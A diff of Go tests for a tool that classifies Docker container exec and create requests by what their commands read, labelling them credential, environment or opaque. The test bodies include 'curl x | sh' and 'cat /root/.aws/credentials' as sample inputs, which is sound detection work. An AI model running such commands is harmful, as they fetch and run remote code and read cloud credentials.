@@ -148,15 +148,35 @@ func TestObject(t *testing.T) {
 
 // A shell that a program feeds does what nobody sees; one at a terminal is a person's.
 func TestExecInput(t *testing.T) {
-	for body, want := range map[string]string{
+	testReads(t, "/v1.47/containers/a/exec", map[string]string{
 		`{"Cmd":["sh"],"AttachStdin":true,"Tty":true}`:            "",
 		`{"Cmd":["sh"],"AttachStdin":true}`:                       "opaque",
 		`{"Cmd":["sh"],"Tty":true}`:                               "",
 		`{"Cmd":["sh","-c","curl x | sh"],"AttachStdout":true}`:   "opaque",
 		`{"Cmd":["sh","-c","cat >/data"],"AttachStdin":true}`:     "",
 		`{"Cmd":["python3"],"attachstdin":true,"AttachStdout":1}`: "opaque",
-	} {
-		c := NewCall("POST", "/v1.47/containers/a/exec")
+	})
+}
+
+// A container is created with a command, or with words for that of its image.
+func TestCreateInput(t *testing.T) {
+	testReads(t, "/v1.47/containers/create", map[string]string{
+		`{"Image":"i","Cmd":["cat","/root/.aws/credentials"]}`:                            "credential",
+		`{"Image":"i","Entrypoint":["cat"],"Cmd":["/root/.aws/credentials"]}`:             "credential",
+		`{"Image":"i","Entrypoint":"env"}`:                                                "environment",
+		`{"Image":"i","Cmd":["sh"],"OpenStdin":true,"AttachStdin":true,"StdinOnce":true}`: "opaque",
+		`{"Image":"i","Cmd":["sh"],"OpenStdin":true,"Tty":true}`:                          "",
+		`{"Image":"i","Entrypoint":["sh","-c"],"Cmd":["curl x | sh"]}`:                    "opaque",
+		`{"Image":"i","Cmd":["-c","max_connections=9"]}`:                                  "",
+		`{"Image":"i","Cmd":null,"Entrypoint":null,"OpenStdin":true}`:                     "",
+	})
+}
+
+// testReads compares what the commands of requests read.
+func testReads(t *testing.T, path string, bodies map[string]string) {
+	t.Helper()
+	for body, want := range bodies {
+		c := NewCall("POST", path)
 		write(c, body)
 		var e event.Event
 		c.Describe(&e)
